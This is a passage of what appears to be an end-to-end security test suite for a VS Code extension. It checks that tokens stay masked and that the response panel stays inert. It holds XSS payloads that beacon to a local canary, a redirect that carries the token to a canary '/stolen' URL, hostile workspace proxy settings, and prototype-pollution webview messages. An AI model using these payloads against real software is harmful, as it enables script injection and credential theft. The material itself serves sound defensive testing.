/**
 * The threats of shared/notes/threats.md that need a real VS Code (code-server + headless Chromium),
 * each test named after its threat id. One trusted workspace whose `.vscode/settings.json` is hostile
 * (T7); a stand-in API on 127.0.0.1 that fails in every way a send can fail (T1/T4/T24) and answers
 * with markup meant to run in the response panel (T20); the panel's real HTML, sandbox and resource
 * loading (T21/T22); hostile messages into the extension (T23); and at the end a search for the token
 * in every place it could have landed, on disk and in the browser.
 *
 * Where code-server keeps SecretStorage: VS Code's web embedder stores every secret in the browser's
 * localStorage["secrets.provider"], AES-256-GCM sealed with a key split between the page and
 * `<user-data-dir>/serve-web-key-half` on the server (see harness/secrets.ts). The last test opens it
 * to prove the token is there, and only there.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import type { ServerResponse } from 'node:http';
import type { Frame, Page } from 'playwright-core';
import { recordingServerPerFile, scriptedServerPerFile, sessionPerFile } from './harness/perFile';
import type { ScriptedRequest } from './harness/scriptedServer';
import {
  browserStorage,
  chromiumProfileDirs,
  encodingsIn,
  scanTree,
  secretEncodings,
  unsealCodeServerSecrets,
} from './harness/secrets';
import { E2E_TIMEOUTS } from './harness/timeouts';
import { tooling } from './harness/tooling';
import { grantClipboard, type Workbench } from './harness/workbench';
import { echoedForms, reveals } from '../unit/http/helpers';

const EXTENSION_ID = 'meeting-payloads.meeting-payloads';
const VMR_PATH = '/v1/usg/dcs/member/vmr/';
const PANEL_DOCUMENT_TITLE = 'Meeting Payloads response';
/** 24 random hex characters, fresh per run: whatever shows them can only have got them from this run. */
const TOKEN = randomBytes(12).toString('hex');
const ENCODINGS = secretEncodings(TOKEN);

/** The rooms of the request files; each makes the stand-in answer differently. */
const ROOMS = [
  'sec-ok',
  'sec-echo',
  'sec-echo-forms',
  'sec-close',
  'sec-redirect',
  'sec-slow',
  'sec-matrix',
  'sec-matrix-html',
  'sec-matrix-redirect',
] as const;
type Room = (typeof ROOMS)[number];

function requestFile(room: Room): string {
  const file = {
    operation: 'huawei.meeting.updateMemberVmr',
    pathParams: { id: room },
    body: { vmrName: 'Security e2e room', chairPwd: '123456' },
  };
  return `${JSON.stringify(file, null, 2)}\n`;
}

/** Markup that runs script or loads from the canary if a response were ever rendered as HTML. */
function hostilePayloads(canary: string): string[] {
  return [
    `<script>window.__secXss='script';document.title='XSS';fetch('${canary}/script')</script>`,
    `<img src=x onerror="window.__secXss='img';document.title='XSS';fetch('${canary}/img-onerror')">`,
    `<img src="${canary}/img-beacon">`,
    `<svg onload="window.__secXss='svg';fetch('${canary}/svg')"><circle r="1"/></svg>`,
    `<a href="javascript:window.__secXss='href';fetch('${canary}/href')">open</a>`,
    `javascript:window.__secXss='url';fetch('${canary}/javascript-url')`,
    `<iframe srcdoc="<script>parent.__secXss='srcdoc';fetch('${canary}/srcdoc')</script>"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${canary}/meta-refresh">`,
    `<style>@import url(${canary}/css-import);</style>`,
    `</pre><script>window.__secXss='pre';fetch('${canary}/pre-breakout')</script><pre>`,
    `<link rel="prefetch" href="${canary}/prefetch"><link rel="stylesheet" href="${canary}/stylesheet">`,
    `<base href="${canary}/base/"><form action="${canary}/form"><input name=q value=1></form>`,
  ];
}

function reply(res: ServerResponse, status: number, statusText: string, headers: Record<string, string>, body = '') {
  res.writeHead(status, statusText, headers);
  res.end(body);
}

describe('security threats in a real VS Code', { timeout: E2E_TIMEOUTS.file }, () => {
  /** Must never be called: redirect target, hostile workspace settings, beacons of hostile markup. */
  const canary = recordingServerPerFile();
  /** Where a plain http link clicked in the panel leads (the positive control of T22's link test). */
  const links = recordingServerPerFile(() => ({ status: 204 }));
  /** The stand-in API, answering per room. */
  const api = scriptedServerPerFile((request: ScriptedRequest, res: ServerResponse) => {
    const room = request.url.startsWith(VMR_PATH) ? request.url.slice(VMR_PATH.length) : '';
    const echoed = String(request.headers['x-access-token'] ?? '');
    const payloads = hostilePayloads(canary().origin);
    const json = { 'content-type': 'application/json' };
    switch (room as Room) {
      case 'sec-ok':
        return reply(res, 200, 'OK', json, JSON.stringify({ request_id: 'sec-req-0001', result: 'updated' }));
      case 'sec-echo':
        // A broken server that echoes what it got, token included, in the body and in headers.
        return reply(
          res,
          500,
          'Internal Server Error',
          { ...json, 'x-echo-token': echoed, 'www-authenticate': `Bearer error="invalid_token", token="${echoed}"` },
          JSON.stringify({ error: 'boom', youSent: request.headers }),
        );
      case 'sec-echo-forms':
        // The token as JSON \u escapes, HTML references, MIME/PEM-wrapped and UTF-16 base64, hex… (T4, #13 item 12).
        return reply(
          res,
          500,
          'Internal Server Error',
          { 'content-type': 'text/plain' },
          Object.entries(echoedForms(echoed))
            .map(([name, form]) => `${name}: ${form}`)
            .join('\n'),
        );
      case 'sec-close':
        res.socket?.destroy();
        return;
      case 'sec-redirect':
        return reply(res, 307, 'Temporary Redirect', {
          location: `${canary().origin}/stolen?token=${encodeURIComponent(echoed)}`,
        });
      case 'sec-slow':
        return; // held: the client gives up (Cancel) and the server sees the connection close
      case 'sec-matrix':
        return reply(
          res,
          200,
          `OK ${payloads[0]} ${payloads[1]}`,
          { ...json, ...Object.fromEntries(payloads.map((p, i) => [`x-hostile-${i}`, p])) },
          JSON.stringify(Object.fromEntries(payloads.map((p) => [p, p]))),
        );
      case 'sec-matrix-html':
        return reply(
          res,
          200,
          'OK',
          { 'content-type': 'text/html; charset=utf-8' },
          `<!DOCTYPE html><html><head>${payloads.join('')}</head><body>${payloads.join('\n')}</body></html>`,
        );
      case 'sec-matrix-redirect':
        return reply(res, 302, 'Found', { location: payloads[5] ?? '', 'content-type': 'text/html' }, payloads[9]);
      default:
        return reply(res, 404, 'Not Found', { 'content-type': 'text/plain' }, 'no route');
    }
  });
  const session = sessionPerFile(async () => {
    const { mockBaseUrls } = await tooling();
    const [apiOrigin, canaryOrigin] = [api().origin, canary().origin];
    return {
      name: 'security',
      settings: {
        'meetingPayloads.environments': {
          e2e: { baseUrls: mockBaseUrls(apiOrigin), confirmBeforeSend: false },
          // The same stand-in through an IPv4-mapped IPv6 literal: 127.0.0.1 on the wire, but not a
          // loopback name for the proxy bypass, so a proxy setting would take effect (T7).
          mapped: { baseUrls: mockBaseUrls(`http://[::ffff:127.0.0.1]:${api().port}`), confirmBeforeSend: false },
        },
        'meetingPayloads.environment': 'e2e',
      },
      workspaceFiles: {
        ...Object.fromEntries(ROOMS.map((room) => [`${room}.meeting.json`, requestFile(room)])),
        'probe.css': 'body { --probe: 1; }\n',
        'probe.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>\n',
        // A customer's folder that tries to re-point everything at the canary (T7).
        '.vscode/settings.json': `${JSON.stringify(
          {
            'meetingPayloads.environments': {
              evil: { baseUrls: mockBaseUrls(canaryOrigin), confirmBeforeSend: false },
              e2e: { baseUrls: mockBaseUrls(canaryOrigin), confirmBeforeSend: false },
              mapped: { baseUrls: mockBaseUrls(canaryOrigin), confirmBeforeSend: false },
            },
            'meetingPayloads.environment': 'evil',
            'meetingPayloads.catalogs': { evil: `${canaryOrigin}/catalog.json` },
            'http.proxy': canaryOrigin,
            'http.proxySupport': 'override',
            'http.noProxy': [],
          },
          null,
          2,
        )}\n`,
      },
    };
  });
  const wb = (): Workbench => session().workbench;

  /** Every notification text seen during the run (toasts vanish; the final sweep checks them all). */
  const notificationsSeen = new Set<string>();
  let tokenStored = false;

  async function noteNotifications(w: Workbench): Promise<void> {
    for (const text of await w.notifications.allInnerTexts().catch(() => [])) notificationsSeen.add(text);
    for (const text of await w.page
      .locator('.monaco-dialog-box')
      .allInnerTexts()
      .catch(() => [])) {
      notificationsSeen.add(text);
    }
  }

  async function setToken(w: Workbench): Promise<void> {
    await openFile(w, 'sec-ok.meeting.json');
    await w.until('the environment "e2e" in the status bar', async () => (await w.statusBarText()).includes('e2e'));
    await w.runCommand('Meeting Payloads: Set Token');
    const input = await w.visible(w.quickInput.locator('input[type="password"]'), 'the password box of Set Token');
    await w.until(`the prompt to name ${api().origin}`, async () =>
      (await w.quickInput.innerText()).includes(api().origin),
    );
    await input.fill(TOKEN);
    await w.screenshot('set-token-password-box');
    await w.page.keyboard.press('Enter');
    await w.hidden(w.quickInput, 'the password box to close');
    await w.visible(w.notifications.filter({ hasText: `set for ${api().origin}` }), 'the "token set" notification');
    await noteNotifications(w);
    tokenStored = true;
  }

  const ensureToken = async (w: Workbench): Promise<void> => {
    if (!tokenStored) await setToken(w);
  };

  /** Opens the room's request file, runs Send Request, and waits for the stand-in to receive it. */
  async function send(w: Workbench, room: Room): Promise<ScriptedRequest> {
    const before = api().requests.length;
    await openFile(w, `${room}.meeting.json`);
    await w.runCommand('Meeting Payloads: Send Request');
    return w.until(`the ${room} request at the stand-in`, () =>
      api()
        .requests.slice(before)
        .find((r) => r.url === `${VMR_PATH}${room}`),
    );
  }

  async function panel(w: Workbench): Promise<{ host: Frame; content: Frame }> {
    return w.webviewFrames(EXTENSION_ID, 'the response panel');
  }

  /** Waits until the panel's text satisfies `ok`; returns the text. */
  async function panelText(w: Workbench, what: string, ok: (text: string) => boolean): Promise<string> {
    return w.until(
      what,
      async () => {
        const { content } = await panel(w);
        const text = await content.locator('body').innerText();
        return ok(text) ? text : undefined;
      },
      { describe: async () => (await panel(w)).content.locator('body').innerText() },
    );
  }

  /**
   * Asserts the token is in neither frame of the panel (HTML and text, every section opened): none of its known
   * encodings, and nothing an independent decoder (escapes, references, hex, base64) turns back into it.
   */
  async function assertPanelClean(w: Workbench, when: string): Promise<void> {
    const { host, content } = await panel(w);
    for (const [name, frame] of [
      ['content', content],
      ['host', host],
    ] as const) {
      const everything = await frame.evaluate(() => {
        for (const d of Array.from(document.querySelectorAll('details'))) d.open = true;
        return `${document.documentElement.outerHTML}\n${document.body.innerText}`;
      });
      assert.deepEqual(encodingsIn(everything, ENCODINGS), [], `the token is not in the panel's ${name} frame ${when}`);
      assert.equal(reveals(everything, TOKEN), undefined, `the panel's ${name} frame gives the token away ${when}`);
    }
  }

  test(
    'T7: hostile workspace settings re-point neither environments, proxy nor catalogs',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await openFile(w, 'sec-ok.meeting.json');
      await w.until('the user environment "e2e" in the status bar', async () =>
        (await w.statusBarText()).includes('e2e'),
      );
      assert.ok(!(await w.statusBarText()).includes('evil'), 'the workspace value "evil" is not the environment');
      const apiHost = new URL(api().origin).host;
      await w.until(`the Send CodeLens naming ${apiHost}`, async () =>
        (await w.page.locator('.codelens-decoration').allInnerTexts()).some((t) => t.includes(apiHost)),
      );

      // Select Environment lists the user's environments only: no "evil" from the workspace.
      await w.runCommand('Meeting Payloads: Select Environment');
      await w.visible(w.quickInput.locator('.monaco-list-row', { hasText: 'mapped' }), 'the environment "mapped"');
      const rows = await w.quickInput.locator('.monaco-list-row').allInnerTexts();
      assert.ok(!rows.some((r) => r.includes('evil')), `no workspace environment is offered: ${rows.join(' | ')}`);
      assert.ok(!rows.some((r) => r.includes(new URL(canary().origin).host)), 'no environment names the canary');
      await w.screenshot('T7-select-environment');
      await w.closeQuickInput();

      // Send goes to the user's stand-in (with the token), never to the canary.
      await ensureToken(w);
      const sent = await send(w, 'sec-ok');
      assert.equal(sent.headers['x-access-token'], TOKEN, 'the token went to the user-configured origin');
      await panelText(w, 'the 200 response in the panel', (t) => t.includes('sec-req-0001'));

      // http.proxy from the workspace: an origin the proxy bypass does not treat as loopback, so a
      // workspace proxy would carry the request. It must go straight to the stand-in.
      await w.runCommand('Meeting Payloads: Select Environment');
      const input = await w.visible(w.quickInput.locator('input'), 'the environment picker');
      await input.fill('mapped');
      await w.visible(w.quickInput.locator('.monaco-list-row', { hasText: 'mapped' }), 'the environment "mapped"');
      await w.page.keyboard.press('Enter');
      await w.until('the environment "mapped" in the status bar', async () =>
        (await w.statusBarText()).includes('mapped'),
      );
      const before = api().requests.length;
      await openFile(w, 'sec-ok.meeting.json');
      await w.runCommand('Meeting Payloads: Send Request');
      // No token is stored for this origin (tokens are per exact origin): the extension asks first.
      const dialog = await w.visible(w.page.locator('.monaco-dialog-box'), 'the "no token" dialog');
      assert.match(await dialog.innerText(), /\[::ffff:7f00:1\]/);
      await noteNotifications(w);
      await dialog.getByRole('button', { name: 'Send Without Token' }).click();
      const direct = await w.until('the request through the mapped origin at the stand-in', () =>
        api()
          .requests.slice(before)
          .find((r) => r.url === `${VMR_PATH}sec-ok`),
      );
      assert.equal(direct.headers.host, `[::ffff:7f00:1]:${api().port}`, 'sent directly, not through a proxy');
      assert.equal(direct.headers['x-access-token'], undefined, "the 127.0.0.1 origin's token is not sent elsewhere");

      await w.runCommand('Meeting Payloads: Select Environment');
      await (await w.visible(w.quickInput.locator('input'), 'the environment picker')).fill('e2e');
      await w.visible(w.quickInput.locator('.monaco-list-row', { hasText: 'e2e' }), 'the environment "e2e"');
      await w.page.keyboard.press('Enter');
      await w.until('the environment "e2e" in the status bar again', async () =>
        (await w.statusBarText()).includes('e2e'),
      );
      assert.deepEqual(canary().requests, [], 'the canary got nothing (environments, proxy, catalog)');
    },
  );

  test(
    'T4: a body echoing the token as \\u escapes, HTML references, wrapped or UTF-16 base64 shows none of them',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      await grantClipboard(w.page);
      const sent = await send(w, 'sec-echo-forms');
      assert.equal(sent.headers['x-access-token'], TOKEN, 'the stand-in got the token (and echoed it)');
      await panelText(w, 'the echoed forms in the panel', (t) => /\b500\b/.test(t) && t.includes('UTF-16LE base64'));
      await assertPanelClean(w, 'after a 500 echoing every form');
      const bundle = await copied(w, () => w.runCommand('Meeting Payloads: Copy Support Bundle'));
      assert.match(bundle, /HTTP 500/);
      assert.equal(reveals(bundle, TOKEN), undefined, 'the support bundle gives the token away');
      await w.screenshot('T4-echoed-forms-masked');
      await noteNotifications(w);
    },
  );

  test(
    'T1/T4: a 500 that echoes the token in its body and headers shows it masked',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      const sent = await send(w, 'sec-echo');
      assert.equal(sent.headers['x-access-token'], TOKEN, 'the stand-in got the token (and echoed it)');
      const text = await panelText(w, 'the 500 in the panel', (t) => /\b500\b/.test(t) && t.includes('boom'));
      assert.match(text, /Internal Server Error/);
      await assertPanelClean(w, 'after an echoing 500');
      const { content } = await panel(w);
      const headerCells = await content.locator('table.headers td').allTextContents();
      assert.ok(
        headerCells.some((c) => c.includes('••••')),
        `the echoed token header is masked: ${headerCells.join(' | ')}`,
      );
      await w.screenshot('T4-echo-500-masked');
      await noteNotifications(w);
    },
  );

  test(
    'T4: a connection closed by the server is an error that names no token',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      await send(w, 'sec-close');
      await w.visible(
        w.notifications.filter({ hasText: 'closed unexpectedly' }),
        'the "connection closed" notification',
      );
      await panelText(w, 'the error in the panel', (t) => t.includes('Not sent or no response'));
      await assertPanelClean(w, 'after a dropped connection');
      await w.screenshot('T4-connection-closed');
      await noteNotifications(w);
    },
  );

  test(
    'T4: a redirect to another origin is not followed and its target is shown masked',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      await send(w, 'sec-redirect');
      const text = await panelText(w, 'the redirect notice in the panel', (t) =>
        t.includes('Redirects are not followed'),
      );
      assert.ok(text.includes(`redirected to ${canary().origin}/stolen?token=`), text);
      assert.match(text, /another origin/);
      await assertPanelClean(w, 'after a cross-origin redirect');
      await w.screenshot('T4-redirect-not-followed');
      assert.deepEqual(canary().requests, [], 'the redirect target got nothing');
      await noteNotifications(w);
    },
  );

  test(
    'T4: Cancel in the progress notification aborts the send and the panel says so',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      const held = await send(w, 'sec-slow');
      const toast = await w.visible(
        w.page.locator('.notification-toast', { hasText: 'Sending PUT to' }),
        'the "Sending PUT" progress notification',
      );
      await w.screenshot('T4-progress-notification');
      await noteNotifications(w);
      await toast.getByRole('button', { name: 'Cancel' }).click();
      await panelText(w, 'the cancelled view in the panel', (t) => t.includes('Cancelled'));
      await w.until('the stand-in to see the connection close', () => held.abandoned);
      await assertPanelClean(w, 'after a cancelled send');
      await w.screenshot('T4-cancelled');
      await noteNotifications(w);
    },
  );

  test(
    'T4: Copy as cURL and Copy Support Bundle hold a placeholder, never the token',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      await grantClipboard(w.page);

      // Copy as cURL from the command palette (the file as it stands, token as a placeholder).
      await openFile(w, 'sec-ok.meeting.json');
      const curl = await copied(w, () => w.runCommand('Meeting Payloads: Copy as cURL'));
      assert.match(curl, /^curl -X PUT /);
      assert.ok(curl.includes('"$HUAWEI_ACCESS_TOKEN"'), curl);
      assert.deepEqual(encodingsIn(curl, ENCODINGS), [], 'no token in Copy as cURL');

      // Copy Support Bundle of the echoing 500: request and response headers and bodies, all masked.
      await send(w, 'sec-echo');
      await panelText(w, 'the 500 in the panel', (t) => /\b500\b/.test(t) && t.includes('boom'));
      const bundle = await copied(w, () => w.runCommand('Meeting Payloads: Copy Support Bundle'));
      assert.match(bundle, /## Meeting Payloads support bundle/);
      assert.match(bundle, /HTTP 500/);
      assert.deepEqual(encodingsIn(bundle, ENCODINGS), [], 'no token in the support bundle');

      // The panel's own buttons (the same copies, through the webview's messages).
      const { content } = await panel(w);
      const panelCurl = await copied(w, () => content.getByRole('button', { name: 'Copy as cURL' }).click());
      assert.match(panelCurl, /^curl -X PUT /);
      assert.deepEqual(encodingsIn(panelCurl, ENCODINGS), [], "no token in the panel's Copy as cURL");
      const panelBundle = await copied(w, () => content.getByRole('button', { name: 'Copy support bundle' }).click());
      assert.deepEqual(encodingsIn(panelBundle, ENCODINGS), [], "no token in the panel's support bundle");
      const body = await copied(w, () => content.getByRole('button', { name: 'Copy body' }).click());
      assert.match(body, /youSent/);
      assert.deepEqual(encodingsIn(body, ENCODINGS), [], 'no token in the copied (echoing) body');
      await noteNotifications(w);
    },
  );

  test(
    'T20: markup in status text, headers, Location and bodies shows as text and runs nothing',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      const payloads = hostilePayloads(canary().origin);

      // JSON body (keys and values), every header value and the status text.
      await send(w, 'sec-matrix');
      await panelText(
        w,
        'the hostile JSON response in the panel',
        (t) => t.includes('x-hostile-0') || t.includes('<svg'),
      );
      const { content } = await panel(w);
      const shown = await content.evaluate(() => ({
        status: document.querySelector('.summary .status')?.textContent ?? '',
        cells: Array.from(document.querySelectorAll('table.headers td')).map((td) => td.textContent ?? ''),
        body: document.querySelector('.body pre')?.textContent ?? '',
      }));
      assert.equal(shown.status, `200 OK ${payloads[0]} ${payloads[1]}`, 'the status text, character for character');
      for (const p of payloads) assert.ok(shown.cells.includes(p), `a header cell holds exactly ${p}`);
      assert.deepEqual(
        JSON.parse(shown.body),
        Object.fromEntries(payloads.map((p) => [p, p])),
        'the pretty-printed body is the JSON that was sent, as text',
      );
      await w.screenshot('T20-hostile-json-headers-status');
      await assertInert(w, content, 'a hostile JSON response');

      // text/html body: shown as its source text, never rendered.
      await send(w, 'sec-matrix-html');
      await panelText(w, 'the hostile HTML response in the panel', (t) => t.includes('<!DOCTYPE html>'));
      const html = await (
        await panel(w)
      ).content.evaluate(() => document.querySelector('.body pre')?.textContent ?? '');
      assert.equal(
        html,
        `<!DOCTYPE html><html><head>${payloads.join('')}</head><body>${payloads.join('\n')}</body></html>`,
      );
      await w.screenshot('T20-hostile-html-body');
      await assertInert(w, (await panel(w)).content, 'a hostile HTML response');

      // A redirect whose Location is a javascript: URL: named as text, nothing to click.
      await send(w, 'sec-matrix-redirect');
      const text = await panelText(w, 'the hostile redirect in the panel', (t) =>
        t.includes('redirected to javascript:'),
      );
      assert.ok(text.includes(`redirected to ${payloads[5]}`), text);
      await w.screenshot('T20-hostile-location');
      await assertInert(w, (await panel(w)).content, 'a hostile redirect');
      assert.deepEqual(canary().requests, [], 'no beacon reached the canary');
    },
  );

  test(
    'T21: the panel has a nonce-only CSP and a fresh nonce on every render',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async () => {
      const w = wb();
      await ensureToken(w);
      await send(w, 'sec-ok');
      await panelText(w, 'the response in the panel', (t) => t.includes('sec-req-0001'));
      const first = await cspOf((await panel(w)).content);

      // Close the panel and send again: a new panel, a new render, a new nonce.
      await w.page.locator('.tab', { hasText: 'PUT sec-ok.meeting.json' }).click();
      await w.runCommand('View: Close Editor');
      await w.hidden(w.page.locator(`iframe.webview[src*="extensionId=${EXTENSION_ID}"]`), 'the panel to close');
      await send(w, 'sec-ok');
      await panelText(w, 'the response in the new panel', (t) => t.includes('sec-req-0001'));
      const second = await cspOf((await panel(w)).content);

      for (const csp of [first, second]) {
        assert.equal(csp.metaIndex, 0, "the CSP is the first <meta> of the extension's head");
        const directives = new Map(
          csp.policy
            .split(';')
            .map((d) => d.trim().split(/\s+/))
            .filter((d) => d[0])
            .map((d): [string, string[]] => [d[0] ?? '', d.slice(1)]),
        );
        assert.deepEqual(directives.get('default-src'), ["'none'"]);
        assert.deepEqual(directives.get('script-src'), [`'nonce-${csp.nonce}'`], 'scripts: the nonce only');
        assert.ok(!/unsafe-inline|unsafe-eval|unsafe-hashes|strict-dynamic|wasm-unsafe/.test(csp.policy), csp.policy);
        assert.deepEqual(
          [...directives.keys()].sort(),
          ['default-src', 'font-src', 'img-src', 'script-src', 'style-src'],
          'no connect-src, frame-src, form-action… beyond the default',
        );
        const allowed = new Set(["'self'", 'https://*.vscode-cdn.net', 'data:']);
        for (const [name, sources] of directives) {
          if (name === 'default-src' || name === 'script-src') continue;
          for (const s of sources) assert.ok(allowed.has(s), `${name} allows only the webview's own sources, not ${s}`);
        }
        assert.match(csp.nonce, /^[A-Za-z0-9+/]{22}==$/, '128-bit base64 nonce');
        assert.ok(csp.scripts.length >= 1, 'the panel script is there');
        for (const s of csp.scripts) assert.equal(s.nonce, csp.nonce, `script ${s.src} carries the nonce`);
      }
      assert.notEqual(first.nonce, second.nonce, 'a new nonce for the new render');
    },
  );

  test(
    'T22: scripts on, forms and command links off, resources only from dist/webview',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async (t) => {
      const w = wb();
      await ensureToken(w);
      await send(w, 'sec-ok');
      await panelText(w, 'the response in the panel', (txt) => txt.includes('sec-req-0001'));
      const { host, content } = await panel(w);

      // The content iframe's sandbox is VS Code's translation of the webview options.
      const sandbox = (
        await host.evaluate(() => document.querySelector('iframe#active-frame')?.getAttribute('sandbox') ?? '')
      ).split(/\s+/);
      assert.ok(sandbox.includes('allow-scripts'), `enableScripts: ${sandbox.join(' ')}`);
      for (const flag of ['allow-forms', 'allow-popups', 'allow-top-navigation', 'allow-modals']) {
        assert.ok(!sandbox.includes(flag), `no ${flag} (enableForms: false): ${sandbox.join(' ')}`);
      }

      // localResourceRoots: dist/webview loads; the workspace, and a path climbing out of the root, do not.
      const loads = await content.evaluate(async (workspace: string) => {
        const script = document.querySelector<HTMLScriptElement>('script[src]')?.src ?? '';
        const root = script.slice(0, script.lastIndexOf('/'));
        const resourceBase = script.slice(0, script.indexOf('/', 'https://'.length));
        // (No named inner functions: the test runner's transform would wrap them in a helper the page lacks.)
        const probes: Array<[string, 'link' | 'img', string]> = [
          ['own', 'link', `${root}/styles.css`],
          ['workspace', 'link', `${resourceBase}${workspace}/probe.css`],
          ['climbing', 'link', `${root}/../../../../workspace/probe.css`],
          ['encoded', 'link', `${root}/..%2F..%2F..%2F..%2Fworkspace%2Fprobe.css`],
          // code-server's cspSource includes 'self', and webviews share the workbench's origin.
          [
            'selfRoute',
            'img',
            `${location.origin}/vscode-remote-resource?path=${encodeURIComponent(`${workspace}/probe.svg`)}`,
          ],
        ];
        const results: Record<string, string> = {};
        for (const [name, tag, url] of probes) {
          results[name] = await new Promise<string>((resolve) => {
            const el = document.createElement(tag);
            el.onload = () => resolve('loaded');
            el.onerror = () => resolve('blocked');
            if (el instanceof HTMLLinkElement) {
              el.rel = 'stylesheet';
              el.href = url;
            } else el.src = url;
            document.head.append(el);
          });
        }
        return results;
      }, session().workspace);
      assert.equal(loads.own, 'loaded', "the panel's own stylesheet loads (positive control)");
      assert.equal(loads.workspace, 'blocked', 'a workspace file does not load');
      assert.equal(loads.climbing, 'blocked', 'a path climbing out of dist/webview does not load');
      assert.equal(loads.encoded, 'blocked', 'an encoded climb does not load either');
      t.diagnostic(
        `code-server platform note: an <img> of the workspace through the workbench origin's /vscode-remote-resource route was ${loads.selfRoute} (cspSource includes 'self'; needs markup injection, which T20 rules out)`,
      );

      // Command links: clicked in the panel, they do nothing; a plain http link (the positive control)
      // is processed by the same path and opens.
      const requestsBefore = api().requests.length;
      await content.evaluate(
        ({ linkTarget }) => {
          for (const [id, href] of [
            ['sec-link-http', `${linkTarget}/clicked`],
            ['sec-link-terminal', 'command:workbench.action.terminal.new'],
            ['sec-link-send', 'command:meetingPayloads.sendRequest'],
          ]) {
            const a = document.createElement('a');
            a.id = id ?? '';
            a.href = href ?? '';
            a.textContent = id ?? '';
            a.style.display = 'block';
            document.body.prepend(a);
          }
        },
        { linkTarget: links().origin },
      );
      const popups: Page[] = [];
      const onPage = (p: Page): void => void popups.push(p);
      w.page.context().on('page', onPage);
      try {
        await content.locator('#sec-link-send').click();
        await content.locator('#sec-link-terminal').click();
        await content.locator('#sec-link-http').click();
        const dialog = w.page.locator('.monaco-dialog-box');
        await w.until('the http link to open (or ask to)', async () => {
          if (await dialog.isVisible()) await dialog.getByRole('button', { name: 'Open' }).click();
          return links().requests.length > 0;
        });
      } finally {
        w.page.context().off('page', onPage);
        for (const p of popups) await p.close().catch(() => undefined);
      }
      await w.screenshot('T22-links-clicked');
      // A barrier through the extension host: commands reach it in order, so a send the command link
      // had started would be at the stand-in (or would block this one as "already being sent").
      await send(w, 'sec-ok');
      assert.equal(api().requests.length, requestsBefore + 1, 'the command link did not send (only the barrier did)');
      assert.equal(await w.page.locator('.xterm').count(), 0, 'the command link opened no terminal');
      assert.deepEqual(canary().requests, []);
      await noteNotifications(w);
    },
  );

  test('T23: hostile messages from the webview are ignored and logged', { timeout: E2E_TIMEOUTS.test }, async () => {
    const w = wb();
    await ensureToken(w);
    await grantClipboard(w.page);
    await send(w, 'sec-ok');
    await panelText(w, 'the response in the panel', (t) => t.includes('sec-req-0001'));
    // Record the request ids the extension sends the panel, to aim messages at a real exchange.
    await (
      await panel(w)
    ).content.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __secIds: string[] }).__secIds = seen;
      window.addEventListener('message', (e: MessageEvent<{ requestId?: unknown }>) => {
        if (typeof e.data?.requestId === 'string') seen.push(e.data.requestId);
      });
    });
    await send(w, 'sec-echo');
    await panelText(w, 'the 500 in the panel', (t) => /\b500\b/.test(t) && t.includes('boom'));
    const { host, content } = await panel(w);
    const echoId = await w.until('the request id of the 500', () =>
      content.evaluate(() => (window as unknown as { __secIds: string[] }).__secIds.at(-1)),
    );

    // The API object main.js holds is private: no second instance, nothing on window.
    assert.match(
      await content.evaluate(() => {
        try {
          (window as unknown as { acquireVsCodeApi: () => unknown }).acquireVsCodeApi();
          return 'acquired';
        } catch (e) {
          return String(e);
        }
      }),
      /already been acquired/,
    );
    assert.deepEqual(
      await content.evaluate(() =>
        Object.getOwnPropertyNames(window).filter((k) => {
          try {
            const v = (window as unknown as Record<string, unknown>)[k] as {
              postMessage?: unknown;
              setState?: unknown;
            };
            return typeof v?.postMessage === 'function' && typeof v?.setState === 'function';
          } catch {
            return false;
          }
        }),
      ),
      [],
    );

    const outputBefore = await outputText(w, notificationsSeen);
    const requestsBefore = api().requests.length;
    // Posted through the host frame's __vscode_post_message__('onmessage', …): the function the
    // webview's acquireVsCodeApi().postMessage calls, so the extension receives exactly these.
    const expected = await host.evaluate((realId: string) => {
      const host = window as unknown as { __vscode_post_message__: (c: string, d: unknown) => void };
      const malformed: unknown[] = [
        { type: 'openCommand', command: 'workbench.action.terminal.new' },
        { type: 'executeCommand', command: 'meetingPayloads.sendRequest', args: ['http://127.0.0.1:9/'] },
        { type: 'send', url: 'http://127.0.0.1:9/send' },
        { type: 'copyBody', requestId: 'x'.repeat(4 * 1024 * 1024) },
        { type: 'y'.repeat(1024 * 1024) },
        JSON.parse('{"type":"copyCurl","requestId":"abc","__proto__":{"polluted":true}}'),
        { type: 'retry', requestId: realId, constructor: { prototype: { polluted: true } } },
        { type: 'openHistoryEntry', id: 'command:workbench.action.terminal.new' },
        { type: 'ready', command: 'workbench.action.terminal.new' },
        null,
        ['ready'],
        'retry',
      ];
      const wellFormed = [
        // Aimed at nothing, or at a response that may not be resent.
        { type: 'retry', requestId: '__proto__' },
        { type: 'cancel', requestId: 'no-such-request' },
        { type: 'retry', requestId: realId },
        // The positive control, last: proves the route reaches the extension, in order.
        { type: 'copyBody', requestId: realId },
      ];
      for (const message of [...malformed, ...wellFormed]) host.__vscode_post_message__('onmessage', { message });
      return malformed.length;
    }, echoId);

    await w.visible(w.notifications.filter({ hasText: 'no longer held' }), 'the "no longer held" notification');
    await w.visible(
      w.notifications.filter({ hasText: 'Only a rate-limited response can be retried' }),
      'the "only a rate-limited response" notification',
    );
    await w.until('the positive control (Copy body) to reach the clipboard', async () =>
      (await readClipboard(w.page)).includes('youSent'),
    );
    await w.screenshot('T23-hostile-messages');
    await noteNotifications(w);

    const output = await outputText(w, notificationsSeen);
    const added = output.slice(outputBefore.length);
